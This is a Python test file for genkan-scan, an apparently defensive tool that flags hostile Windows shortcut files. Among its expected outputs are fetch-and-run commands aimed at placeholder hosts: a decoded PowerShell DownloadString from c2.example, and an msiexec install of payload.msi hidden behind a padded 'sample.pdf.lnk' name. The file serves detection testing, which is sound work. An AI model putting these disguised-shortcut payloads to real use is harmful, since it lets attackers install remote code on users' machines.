# SPDX-License-Identifier: GPL-2.0-or-later
"""What genkan-scan says of hostile shortcuts, of harmless ones, and of files that are none."""
import json
import os
import struct
import unittest
import zlib

import make_container as c
import make_lnk as m
import tap
from lnk_samples import CMD, COMMAND, HARMLESS, HOSTILE, POWERSHELL, two_ways
from scan import BUILD, run_scan

def png():
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + b"\0" * 13 + struct.pack(">I", zlib.crc32(b"IHDR" + b"\0" * 13))


KINDS = {
    "pe": b"MZ\x90", "elf": b"\x7fELF\2", "zip": b"PK\3\4", "7z": b"7z\xbc\xaf\x27\x1c", "rar": b"Rar!\x1a\7\1", "gzip": b"\x1f\x8b\x08",
    "cab": b"MSCF\0", "ole": c.Compound({"WordDocument": b"x"}).bytes(), "pdf": b"junk\n%PDF-1.7", "rtf": b"{\\rtf1", "png": png(), "jpeg": b"\xff\xd8\xff\xe0",
    "html": b"\n<!DOCTYPE html><p>", "hta": b"<html><HTA:APPLICATION id=x>", "script": b"#!/bin/sh\n", "text": "grüße\n".encode(), "bzip2": b"BZh91", "xz": b"\xfd7zXZ\0", "zstd": b"\x28\xb5\x2f\xfd\4", "disk": b"conectix\0",
    "lha": b"\x20\x20-lh5-\1", "tar": b"a".ljust(257, b"\0") + b"ustar\0", "iso": bytes(0x8001) + b"CD001\1", "other": b"\0\1\2\3",
}

PACKED = {"zip", "7z", "rar", "gzip", "cab", "bzip2", "xz", "zstd", "tar", "iso", "lha"}  # for genkan-scan-deep

# DESIGN.md's `triage`, the part that others build on.
KEYS = {"file", "kind", "verdict", "indicators", "lnk"}
LNK_KEYS = set("target arguments description relative_path working_directory icon show header items link_info "
               "blocks overlay windows_view spec_view damage".split())
HEADER_KEYS = set("flags attributes created accessed modified file_size icon_index hotkey".split())


def ids(triage):
    return [i["id"] for i in triage["indicators"]]


class Triage(unittest.TestCase):
    def test_there_are_enough_of_either(self):
        """at least 80 hostile shortcuts with a trick each, and 40 harmless ones, all different"""
        tricks = {data: what for what, (_, data, _) in HOSTILE.items() if not what.startswith("blank U+")}
        self.assertGreaterEqual(len(tricks), 80)
        self.assertGreaterEqual(len({data for _, data in HARMLESS.values()}), 40)

    def test_hostile_shortcuts_show_it(self):
        for what, (name, data, wanted) in HOSTILE.items():
            with self.subTest(what):
                triage = run_scan(data, "--name", name)
                self.assertLessEqual(set(wanted), set(ids(triage)))
                self.assertIn(triage["verdict"], ("suspicious", "malicious"))
                self.assertTrue(triage["why"])

    def test_harmless_shortcuts_are_clean(self):
        for what, (name, data) in HARMLESS.items():
            with self.subTest(what):
                triage = run_scan(data, "--name", name)
                self.assertEqual(triage["verdict"], "clean", ids(triage))
                self.assertEqual([i["id"] for i in triage["indicators"] if i["severity"] != "low"], [])
                self.assertEqual(triage["lnk"]["damage"], [])

    def test_other_kinds_are_unscannable(self):
        for kind, data in KINDS.items():
            with self.subTest(kind):
                triage = run_scan(data, "--name", "thing")
                self.assertEqual((triage["kind"], triage["verdict"]), (kind, "unscannable"))
                self.assertEqual(triage["why"], "what is in it has not been unpacked" if kind in PACKED
                                 else "no scanner of genkan knows this kind")
                self.assertEqual(triage.get("deferred", False), kind in PACKED)
                self.assertNotIn("lnk", triage)

    def test_names_count_for_every_kind(self):
        for name, data, wanted in (("a.pdf.exe", b"MZ", "name-double-extension"), ("a.pdf", b"MZ", "name-not-the-content"),
                                   ("a\u202egnp.exe", b"MZ", "name-bidi-control"), ("a.doc .js", b"x", "name-double-extension")):
            with self.subTest(wanted):
                triage = run_scan(data, "--name", name)
                self.assertIn(wanted, ids(triage))
                self.assertIn(triage["verdict"], ("suspicious", "malicious"))

    def test_an_empty_file_is_clean(self):
        triage = run_scan(b"", "--name", "a.pdf")
        self.assertEqual((triage["kind"], triage["verdict"], triage["file"]["size"]), ("empty", "clean", 0))


class Shape(unittest.TestCase):
    def test_has_the_documented_keys(self):
        triage = run_scan(m.windows_like(blocks=[m.console()], arguments="x", overlay=b"x"), "--name", "a.lnk")
        self.assertLessEqual(KEYS, set(triage))
        self.assertEqual(set(triage["file"]), {"name", "size", "sha256"})
        self.assertLessEqual(LNK_KEYS, set(triage["lnk"]))
        self.assertLessEqual(HEADER_KEYS, set(triage["lnk"]["header"]))
        self.assertEqual(set(triage["lnk"]["overlay"]), {"offset", "size", "kind"})
        for block in triage["lnk"]["blocks"]:
            self.assertLessEqual({"signature", "name", "size"}, set(block))
        for indicator in triage["indicators"]:
            self.assertLessEqual({"id", "severity", "detail"}, set(indicator))
            self.assertIn(indicator["severity"], ("low", "medium", "high", "critical"))

    def test_every_part_is_read(self):
        data = m.windows_like(blocks=[m.environment("%x%"), m.console(90, 20), m.code_page(932), m.shim("LAYER"),
                                      m.vista_items(m.root(), m.volume(), m.entry("v.exe"))],
                              name="about", arguments="-a", icon="i.ico", hotkey=0x0370, show=3, icon_index=-7)
        lnk = run_scan(data)["lnk"]
        self.assertEqual((lnk["target"], lnk["description"], lnk["arguments"], lnk["icon"], lnk["show"]),
                         ("C:\\v.exe", "about", "-a", "i.ico", "maximised"))
        self.assertEqual((lnk["header"]["hotkey"], lnk["header"]["icon_index"], lnk["header"]["created"]),
                         ("CTRL+SHIFT+F1", -7, "2022-06-18T04:26:40Z"))
        self.assertEqual([i["name"] for i in lnk["items"]], [None, "C:\\", "Program Files", "Editor", "editor.exe"])
        self.assertEqual((lnk["link_info"]["drive"], lnk["link_info"]["serial"], lnk["link_info"]["label"]),
                         ("fixed", 0x12345678, "System"))
        blocks = {b["name"]: b for b in lnk["blocks"]}
        self.assertEqual(set(blocks), {"special-folder", "known-folder", "tracker", "property-store", "environment",
                                       "console", "console-codepage", "shim", "item-list"})
        self.assertEqual((blocks["tracker"]["machine"], blocks["tracker"]["mac"], blocks["tracker"]["created"][:4]),
                         ("desktop-1", "a4:bb:6d:11:22:33", "2021"))
        self.assertEqual((blocks["console"]["window_columns"], blocks["console"]["font"]), (90, "Consolas"))
        self.assertEqual((blocks["property-store"]["stores"], blocks["shim"]["layer"], blocks["console-codepage"]["code_page"]),
                         (2, "LAYER", 932))
        self.assertEqual((blocks["special-folder"]["folder"], blocks["known-folder"]["folder"]),
                         (36, "{1AC14E77-02E7-4E5D-B744-2EB1AE5198B7}"))
        self.assertEqual(blocks["item-list"]["path"], "C:\\v.exe")

    def test_link_fields_are_what_windows_would_use(self):
        lnk = run_scan(two_ways())["lnk"]
        self.assertEqual((lnk["arguments"], lnk["windows_view"]["arguments"], lnk["spec_view"]["arguments"]),
                         ("/c hi", "/c hi", "harmless"))

    def test_text_is_whole_and_escaped_where_json_cannot_hold_it(self):
        arguments = "a\0b\ud800c\t\u202e" + "z" * 60000
        lnk = run_scan(m.windows_like(arguments=arguments))["lnk"]
        self.assertEqual(lnk["arguments"], "a\\x00b\\u{d800}c\t\u202e" + "z" * 60000)

    def test_an_installed_product_is_told(self):
        self.assertIn("target-by-installer", ids(run_scan(HARMLESS["an installed product"][1])))

    def test_no_shortcut_makes_the_answer_too_long(self):
        one, long = "\x01" * 32766, "\x01" * 4096
        shims = [m.block(0xA0000008, m.u16(one) + b"\0\0")]
        entries = [m.item(b"\x32\0" + b"\0" * 10 + b"\x01" * 3000 + b"\0") for _ in range(250)]
        texts = {"name": one, "relative": one, "directory": one, "arguments": one * 2, "icon": one}
        for what, data in (("shims", m.windows_like(CMD, shims * 90, arguments=" " * 50 + "/c calc")),
                           ("shims and all else", m.link(m.items(*entries[:20]), m.info(long), [m.environment("\x01" * 259)] + shims * 120, flags=m.EXP_STRING,
                                                         overlay=b"\0" * (4 << 20), **texts)),
                           ("items", m.windows_like(CMD, [m.vista_items(*entries)] * 12, arguments=" " * 50)),
                           ("stores", m.windows_like(CMD, [m.block(0xA0000009, b"\4\0\0\0" * (3 << 20) + m.TERMINAL)], arguments=" " * 50)),
                           ("12 MB", m.windows_like(CMD, shims * 90, arguments=" " * 50 + "/c calc", overlay=b"\1" * (12 << 20)))):
            with self.subTest(what):
                triage = run_scan(data, "--name", "a.lnk")
                self.assertLess(len(json.dumps(triage, ensure_ascii=True)), 2 << 20)
                self.assertIn(triage["verdict"], ("suspicious", "malicious"))
                self.assertEqual(triage["lnk"]["windows_view"]["blocks"], len(triage["lnk"]["blocks"]))

    def test_what_is_cut_says_so(self):
        entries = [m.entry(f"{i}") for i in range(200)]
        lnk = run_scan(m.windows_like(name="n" * 259, icon="i" * 5000, blocks=[m.shim("l" * 4097), m.vista_items(*entries)],
                                      arguments="\0" * 65535))["lnk"]
        self.assertEqual((len(lnk["icon"]), lnk["icon_cut"], "description_cut" in lnk), (4096, True, False))
        self.assertEqual((len(lnk["arguments"]), lnk["arguments_cut"]), (65536, True))
        self.assertEqual((len(lnk["blocks"][-2]["layer"]), lnk["blocks"][-2]["layer_cut"]), (4096, True))
        self.assertEqual(lnk["blocks"][-1]["items_count"], 200)
        self.assertEqual(len(lnk["items"]) + len(lnk["blocks"][-1]["items"]), 128)

    def test_encoded_command_is_decoded(self):
        triage = run_scan(m.windows_like(POWERSHELL, arguments="-enc " + COMMAND))
        found = [i["detail"] for i in triage["indicators"] if i["id"] == "arguments-encoded-command"]
        self.assertIn("DownloadString('http://c2.example/a')", found[0])

    def test_large_overlay_is_told_whole(self):
        data = m.windows_like()
        triage = run_scan(data + b"\0" * (20 << 20))
        self.assertEqual((triage["lnk"]["overlay"]["offset"], triage["lnk"]["overlay"]["size"]), (len(data), 20 << 20))


class Sample(unittest.TestCase):
    def test_is_seen_through(self):
        with open(os.path.join(BUILD, "templates/sample/sample.pdf.lnk"), "rb") as file:
            triage = run_scan(file.read(), "--name", "sample.pdf.lnk")
        self.assertEqual(triage["verdict"], "malicious")
        self.assertLessEqual({"arguments-padded", "name-double-extension", "builtin-with-url", "program-behind-document-icon"},
                             set(ids(triage)))
        self.assertEqual(triage["claims"], "a PDF document")
        self.assertEqual(triage["lnk"]["arguments"].strip(),
                         r"/c echo genkan sample: this ran > %USERPROFILE%\genkan-sample.txt"
                         r" & msiexec /q /i http://updates.genkan-sample.example/payload.msi")


if __name__ == "__main__":
    tap.main()
